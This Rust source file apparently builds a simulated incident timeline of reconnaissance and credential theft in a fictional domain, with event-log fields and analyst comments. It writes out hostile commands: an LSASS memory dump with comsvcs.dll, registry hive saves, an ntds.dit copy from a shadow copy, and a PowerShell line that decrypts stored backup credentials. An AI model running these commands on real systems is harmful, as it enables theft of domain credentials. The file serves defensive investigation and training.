//! 21 to 24 September: looking around and taking credentials.
//! What was done with them is in `movement`.

use super::iocs::DRIVER;
use super::script::*;

/// Commands of the first quarter of an hour: minute, second, command, what it told the attacker.
const LOOKING_AROUND: [(u8, u8, &str, &str); 12] = [
    (14, 32, "whoami /all", "Rights of the user: none special"),
    (14, 51, "systeminfo", "Version, patches, domain"),
    (15, 40, "net user t.oyelaran /domain", "Groups of the user"),
    (17, 2, "net group \"Domain Admins\" /domain", "Five names, `adm-rvos` among them"),
    (17, 31, "net group \"Enterprise Admins\" /domain", "Two names"),
    (18, 15, "nltest /dclist:brackwater.example", "Both domain controllers"),
    (18, 48, "nltest /domain_trusts /all_trusts", "No trusts"),
    (19, 20, "ipconfig /all", "DNS servers, network"),
    (20, 6, "arp -a", "Neighbours"),
    (22, 40, "net view /all /domain", "About 400 names"),
    (23, 19, "cmdkey /list", "Nothing kept"),
    (25, 58, "dir \\\\SRV-FILE-HAM\\docs-hou", "The team share"),
];

pub fn events() -> Vec<Told> {
    let looking = LOOKING_AROUND.iter().map(|(minute, second, command, told)| {
        let line = format!("cmd.exe /c {command}");
        at(&format!("09-21 07:{minute:02}:{second:02}.204 -05:00"), DISCOVERY, format!("Looking around: {command}"))
            .on(&["WKS-HOU-117", "t.oyelaran"])
            .tags("hands-on-keyboard,t1087,t1018")
            .says(format!("{told}."))
            .sysmon(
                1,
                "WKS-HOU-117",
                &[
                    ("Image", r"C:\Windows\System32\cmd.exe"),
                    ("CommandLine", &line),
                    ("ParentImage", r"C:\ProgramData\PortSync\port_sync.exe"),
                    ("IntegrityLevel", "Medium"),
                ],
            )
    });
    looking.chain(taken()).collect()
}

fn taken() -> Vec<Told> {
    vec![
        at("09-21 08:40:12.660 -05:00", CREDENTIAL_ACCESS, "Browser password stores of the user read")
            .on(&["WKS-HOU-117", "t.oyelaran"])
            .tags("t1555.003")
            .says("`Login Data` and `Local State` opened by a program that is no browser. 23 saved passwords, among them the **port authority's portal**.")
            .sysmon(11, "WKS-HOU-117", &[("Image", r"C:\ProgramData\PortSync\port_sync.exe"), ("TargetFilename", r"C:\ProgramData\PortSync\ld.db")]),
        at("09-21 09:12:33.019 -05:00", DISCOVERY, "Directory collected with a graph tool")
            .on(&["WKS-HOU-117", "SRV-DC-HOU1"])
            .tags("t1087.002,ldap")
            .color(ORANGE)
            .key()
            .source("Directory diagnostics")
            .says("11,200 LDAP queries in 140 s from one workstation; filter `(objectClass=*)` with `nTSecurityDescriptor`.")
            .raw("1644 client=10.44.12.117:50122 base=\"DC=brackwater,DC=example\" filter=\"(objectClass=*)\" visited=48112 returned=11290 attributes=nTSecurityDescriptor,member,servicePrincipalName"),
        at("09-22 01:05:47.300 -05:00", DISCOVERY, "Port scan of 10.40.0.0/22 from Houston")
            .on(&["WKS-HOU-117", "FW-HAM-EDGE"])
            .ioc(&["b48247d37048789c71fc97ec01717133729d36a6e4b506aef38d12fa96152008"])
            .tags("t1046,scan")
            .color(ORANGE)
            .says("`cal.exe`, ports 22, 135, 445, 902, 1433, 3389, 5985, 9392, 9419. Ports **902** and **9392**: somebody is looking for hypervisors and backups.")
            .firewall("fw-ham-edge", "10.44.12.117", "10.40.1.60", 9392, "allow", (60, 60)),
        at("09-22 14:31:22.808 +02:00", LEGITIMATE, "Domain administrator logs on to the help desk laptop to repair a printer driver")
            .on(&["LT-OPS-009", "adm-rvos"])
            .tags("admin-logon,tier0")
            .says("Against the rules of the house. His credentials stay in memory; two hours later the laptop is the attacker's.")
            .security(4624, "LT-OPS-009", &[("TargetUserName", "adm-rvos"), ("LogonType", "10"), ("IpAddress", "10.40.9.2"), ("AuthenticationPackageName", "Negotiate")])
            .comment(2, "Talked to Ruben Vos. He remembers it, no reproach: the ticket system *demands* it for driver packages."),
        at("09-22 15:02:14.117 +02:00", CREDENTIAL_ACCESS, "Kerberoasting: 31 service tickets with RC4 in 4 seconds")
            .on(&["SRV-DC-HAM1", "svc-backup", "svc-sqlagent", "t.oyelaran"])
            .ioc(&["svc-backup"])
            .tags("t1558.003,kerberoasting")
            .color(RED)
            .flag()
            .key()
            .says("All from one workstation, all with encryption type `0x17`.\n\n| Account | Password last set | Cracked? |\n|---|---|---|\n| svc-backup | 2019-03-11 | **yes**, used the next night |\n| svc-sqlagent | 2025-11-02 | no sign |\n| svc-print | 2016-07-20 | unknown, disabled |")
            .security(4769, "SRV-DC-HAM1", &[("TargetUserName", "t.oyelaran@BRACKWATER.EXAMPLE"), ("ServiceName", "svc-backup"), ("TicketEncryptionType", "0x17"), ("TicketOptions", "0x40810000"), ("IpAddress", "::ffff:10.44.12.117")]),
        at("09-22 15:48:51.430 +02:00", CREDENTIAL_ACCESS, "Password of svc-backup in a script on NETLOGON")
            .on(&["SRV-DC-HAM1", "svc-backup"])
            .ioc(&["svc-backup"])
            .tags("t1552.001,sysvol")
            .says("`\\\\brackwater.example\\NETLOGON\\old\\bkp_mount.cmd`, last changed in 2019. Cracking was not even needed.")
            .security(5145, "SRV-DC-HAM1", &[("SubjectUserName", "t.oyelaran"), ("ShareName", r"\\*\NETLOGON"), ("RelativeTargetName", r"old\bkp_mount.cmd"), ("IpAddress", "10.44.12.117")]),
        at("09-22 16:22:40.905 +02:00", DEFENSE_EVASION, "Vulnerable driver loaded on the help desk laptop")
            .on(&["LT-OPS-009"])
            .ioc(&[DRIVER])
            .tags("t1068,byovd")
            .color(ORANGE)
            .says("Signed in 2017, on the block list since 2023; the list was not enforced.")
            .sysmon(6, "LT-OPS-009", &[("ImageLoaded", r"C:\Windows\Temp\hwm64.sys"), ("Hashes", "SHA256=472F15367380C1EAAEC1CA7A5A032E1F89612F98D34C8641A4B4414B5CBDF166"), ("Signed", "true"), ("SignatureStatus", "Valid")]),
        at("09-22 16:22:58.113 +02:00", DEFENSE_EVASION, "Endpoint agent stops reporting")
            .on(&["LT-OPS-009"])
            .tags("t1562.001,edr-blind")
            .color(RED)
            .flag()
            .follows()
            .source("EDR")
            .says("Last heartbeat of the agent. The console shows *offline*, as it does for 200 other laptops."),
        at("09-22 16:25:33.548 +02:00", CREDENTIAL_ACCESS, "Memory of LSASS dumped on the help desk laptop")
            .on(&["LT-OPS-009", "adm-rvos", "d.marchetti"])
            .ioc(&["6d4f8e8dc47f7846d120738e5001358447cc962e", "adm-rvos"])
            .tags("t1003.001,lsass")
            .color(RED)
            .flag()
            .key()
            .says("**The turning point.** The dump holds the NTLM hash and a ticket of `adm-rvos`.\n\n`rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\PortSync\\t.bin full`")
            .sysmon(10, "LT-OPS-009", &[("SourceImage", r"C:\Windows\System32\rundll32.exe"), ("TargetImage", r"C:\Windows\System32\lsass.exe"), ("GrantedAccess", "0x1FFFFF"), ("CallTrace", "ntdll.dll+9d4c4|comsvcs.dll+2a1b")])
            .comment(3, "Full chain proven: driver, agent blind, dump, 10 h later first use of the hash.")
            .comment(2, "This goes on the first slide."),
        at("09-23 02:58:19.660 +02:00", CREDENTIAL_ACCESS, "SAM and SECURITY hives saved on the jump host")
            .on(&["SRV-JUMP-01"])
            .tags("t1003.002")
            .sysmon(1, "SRV-JUMP-01", &[("Image", r"C:\Windows\System32\reg.exe"), ("CommandLine", r"reg save HKLM\SAM C:\ProgramData\PortSync\s1 /y"), ("User", r"BRACKWATER\adm-rvos")]),
        at("09-23 03:55:02.871 +02:00", CREDENTIAL_ACCESS, "Credential store of the backup program decrypted")
            .on(&["SRV-BKP-HAM", "root@ESX-HAM"])
            .tags("t1555,backup")
            .color(RED)
            .key()
            .says("A query against the configuration database, then `ProtectedData::Unprotect`. It gave:\n\n- `svc-backup`\n- the vCenter administrator\n- the SSH password of the NAS")
            .winlog("Microsoft-Windows-PowerShell/Operational", 4104, "SRV-BKP-HAM", &[("ScriptBlockText", "Invoke-Sqlcmd -Query 'SELECT user_name, password FROM dbo.Credentials' | % { [Text.Encoding]::UTF8.GetString([Security.Cryptography.ProtectedData]::Unprotect([Convert]::FromBase64String($_.password), $null, 'LocalMachine')) }")]),
        at("09-23 22:31:40.002 +02:00", CREDENTIAL_ACCESS, "Spreadsheet with the ESXi root password opened")
            .on(&["SRV-FILE-HAM", "root@ESX-HAM", "adm-rvos"])
            .tags("t1552.001")
            .color(ORANGE)
            .flag()
            .says("`\\\\SRV-FILE-HAM\\it$\\infra\\esx root 2022 NEU.xlsx`")
            .security(5145, "SRV-FILE-HAM", &[("SubjectUserName", "adm-rvos"), ("ShareName", r"\\*\it$"), ("RelativeTargetName", r"infra\esx root 2022 NEU.xlsx"), ("IpAddress", "10.40.1.5")]),
        at("09-24 00:40:27.193 +02:00", CREDENTIAL_ACCESS, "Directory database copied from a shadow copy (ntds.dit)")
            .on(&["SRV-DC-HAM1", "krbtgt", "adm-rvos"])
            .ioc(&["adm-rvos"])
            .tags("t1003.003,tier0")
            .color(RED)
            .flag()
            .key()
            .says("All password hashes of the domain, **2,318 accounts**, `krbtgt` included.\n\n```text\nvssadmin create shadow /for=C:\ncopy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy14\\Windows\\NTDS\\ntds.dit C:\\ProgramData\\PortSync\\n\nreg save HKLM\\SYSTEM C:\\ProgramData\\PortSync\\y /y\n```\n\nConsequence: see the tasks for the double reset of krbtgt.")
            .sysmon(1, "SRV-DC-HAM1", &[("Image", r"C:\Windows\System32\cmd.exe"), ("CommandLine", r"cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy14\Windows\NTDS\ntds.dit C:\ProgramData\PortSync\n"), ("User", r"BRACKWATER\adm-rvos")]),
        at("09-24 00:52:03.450 +02:00", CREDENTIAL_ACCESS, "DCSync from the jump host")
            .on(&["SRV-DC-HAM1", "SRV-JUMP-01", "krbtgt"])
            .tags("t1003.006,tier0,dcsync")
            .color(RED)
            .says("Replication rights used by an account that is no domain controller. Perhaps only a test: the database was already taken 12 minutes before.")
            .security(4662, "SRV-DC-HAM1", &[("SubjectUserName", "adm-rvos"), ("ObjectType", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}"), ("Properties", "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"), ("AccessMask", "0x100")]),
    ]
}
